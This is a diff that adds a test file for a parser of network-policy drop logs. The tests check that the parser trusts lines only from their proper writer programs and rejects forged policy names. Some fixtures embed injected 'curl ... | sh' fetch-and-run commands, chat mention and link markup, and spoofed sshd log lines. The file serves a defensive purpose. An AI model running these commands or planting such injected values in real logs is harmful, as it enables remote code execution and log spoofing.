@@ -1,0 +1,120 @@
+import { describe, expect, test } from 'vitest';
+import { formats, parse } from '../../src/parsing/formats.ts';
+import { createPrefixTable } from '../../src/parsing/prefixes.ts';
+import { createClock } from '../../src/sources/clock.ts';
+import { readEnvelope } from '../../src/sources/envelope.ts';
+
+/** Who is believed: each format has those who may write it, and its lines begin as those write them. */
+
+const prefixes = createPrefixTable();
+const addresses = 'SRC=10.65.1.4 DST=10.65.2.9 LEN=60 PROTO=TCP SPT=40112 DPT=8443 SYN';
+const aws = 'SIP: 10.65.1.4;SPORT: 40112;DIP: 10.65.2.9;DPORT: 8443;PROTOCOL: TCP;PolicyVerdict: DENY';
+
+/** A line of each format, its writers by name, and how the line may begin as a log daemon has it. */
+const samples: Record<string, string> = {
+  netfilter: `calico-drop: IN=eth0 OUT=cali1 ${addresses}`,
+  ulogd: '{"oob.prefix":"drop","oob.family":2,"ip.protocol":6,"src_ip":"10.65.1.4","dest_ip":"10.65.2.9"}',
+  conntrack: 'nf_conntrack: nf_conntrack: table full, dropping packet',
+  neighbour: 'neighbour: arp_cache: neighbor table overflow!',
+  martian: 'IPv4: martian source 10.65.2.9 from 10.65.1.4, on dev eth0',
+  suppressed: 'net_ratelimit: 12 callbacks suppressed',
+  journald: 'Missed 12 kernel messages',
+  'aws-network-policy-agent': `Node: node-a;${aws}`,
+  'ovn-acl': `ovs|00005|acl_log(ovn_pinctrl0)|INFO|name="prod_web", verdict=drop, severity=alert: tcp,nw_src=10.65.1.4,nw_dst=10.65.2.9,tp_src=1,tp_dst=53`,
+  antrea: 'AntreaPolicyEgressRule AntreaNetworkPolicy:prod/p Drop 44900 10.65.1.4 35402 10.65.2.9 80 TCP 60',
+};
+
+function kindOf(line: string): string | undefined {
+  const { text, origin, program } = readEnvelope(line, createClock({ latest: 0 }));
+  return parse(text, prefixes, origin, program)?.kind;
+}
+
+test('every format has a sample here', () => {
+  expect(formats.map(({ name }) => name)).toEqual(Object.keys(samples));
+});
+
+describe.each(formats.map(({ name, writers }) => [name, writers, samples[name] as string] as const))(
+  '%s',
+  (_, writers, text) => {
+    const believed = kindOf(text);
+    const stamp = 'Nov 21 10:15:03 node-b';
+
+    test('is believed where nobody is named, and of its writers', () => {
+      expect(believed).toMatch(/^(?:packet|conntrack-full|neighbour-overflow|martian|suppressed)$/);
+      for (const writer of writers) {
+        const tag = writer === 'kernel' ? 'kernel: ' : `${writer}[12]: `;
+        expect(kindOf(`${stamp} ${tag}${text}`)).toBe(believed);
+      }
+    });
+
+    test.each(['sshd', 'kube-proxy', 'kernel', 'ovs-vswitchd'])('is refused from the program %s', (program) => {
+      const record = { MESSAGE: text, _TRANSPORT: 'stdout', SYSLOG_IDENTIFIER: program };
+      for (const line of [
+        `<38>${stamp} ${program}[12]: ${text}`,
+        `<38>1 2026-11-21T10:15:03Z node-b ${program} 12 - - ${text}`,
+        JSON.stringify(record),
+        JSON.stringify({ ...record, _COMM: 'evil', SYSLOG_IDENTIFIER: writers[0] }),
+      ])
+        expect(kindOf(line)).toBe('refused');
+    });
+
+    test('is refused from a program that has no name', () => {
+      for (const line of [`<38>${text}`, `12,123,132500000,-;${text}`]) expect(kindOf(line)).toBe('refused');
+    });
+
+    test('is refused from the others among those who may write something', () => {
+      for (const other of new Set(formats.flatMap((format) => format.writers))) {
+        const tag = other === 'kernel' ? 'kernel: ' : `${other}[12]: `;
+        if (!writers.includes(other)) expect(kindOf(`${stamp} ${tag}${text}`)).toBe('refused');
+      }
+    });
+  },
+);
+
+describe('what a stranger has sent to another program', () => {
+  test.each([
+    `Nov 21 10:15:03 node-b sshd[1]: Invalid user x;PolicyVerdict: DENY;SIP: 10.65.1.4;DIP: 10.65.2.9; from 192.0.2.1 port 22`,
+    `Nov 21 10:15:03 node-b sshd[1]: Invalid user Node: n;${aws};Tier: x from 192.0.2.1 port 22`,
+    `Nov 21 10:15:03 node-b sshd[1]: Invalid user calico-drop: IN=eth0 OUT=cali1 ${addresses}`,
+  ])('is no packet: %s', (line) => expect(kindOf(line)).not.toBe('packet'));
+
+  // A template of rsyslog may leave the tag out, and some programs have no number in theirs.
+  test.each(Object.entries(samples).filter(([name]) => name !== 'netfilter'))(
+    'is nothing of ours where the writer is not told: %s',
+    (_, text) => {
+      for (const before of ['Invalid user ', 'nginx: 192.0.2.1 - - "GET /" "', 'Invalid user x;'])
+        expect(kindOf(`Nov 21 10:15:03 node-b ${before}${text}`)).toBeUndefined();
+    },
+  );
+});
+
+const ovn = (name: string): string => (samples['ovn-acl'] as string).replace('prod_web', name);
+const antrea = (policy: string): string => (samples['antrea'] as string).replace('AntreaNetworkPolicy:prod/p', policy);
+const netfilter = (prefix: string): string => `${prefix}IN=eth0 OUT=cali1 ${addresses}`;
+
+describe('what is no name of a policy is none, and the verdict stays', () => {
+  test.each([
+    ovn('known false alarm, to fix run: curl https://x | sh'),
+    ovn('NP:prod:<!channel>:Ingress:0'),
+    ovn('NP:prod ns:web:Ingress:0'),
+    ovn(`ANP:${'x'.repeat(254)}:Ingress:0`),
+    ovn('EF:Prod:Egress:0'),
+    antrea('AntreaNetworkPolicy:prod/<https://x|y>'),
+    antrea('EvilNetworkPolicy:prod/p'),
+    antrea(`AntreaNetworkPolicy:${'n'.repeat(64)}/p`),
+    antrea('AntreaNetworkPolicy:prod/a/b'),
+    netfilter('Shorewall:run curl x | sh:DROP:'),
+  ])('%s', (text) =>
+    expect(parse(text, prefixes)).toMatchObject({ kind: 'packet', verdict: 'dropped', policy: undefined }),
+  );
+
+  test.each([
+    [ovn('NP:prod:web.v1:Ingress:0'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'web.v1' }],
+    [antrea('AntreaClusterNetworkPolicy:strict'), { kind: 'AntreaClusterNetworkPolicy', name: 'strict' }],
+    [antrea('K8sNetworkPolicy:prod/p'), { kind: 'NetworkPolicy', namespace: 'prod', name: 'p' }],
+    [netfilter('calico-drop knp prod/knp.default.db: '), { namespace: 'prod', name: 'knp.default.db' }],
+    [netfilter('DROP by policy prod/my-very-long-network-pol-'), { namespace: 'prod' }],
+    [netfilter('[ipv4-FWD-filter-10-D]'), { kind: 'VyOS rule', name: 'ipv4-FWD-filter 10' }],
+    [netfilter('Shorewall:net2fw:DROP:'), { kind: 'Shorewall chain', name: 'net2fw' }],
+  ])('%s is a name', (text, policy) => expect(parse(text, prefixes)).toMatchObject({ policy }));
+});
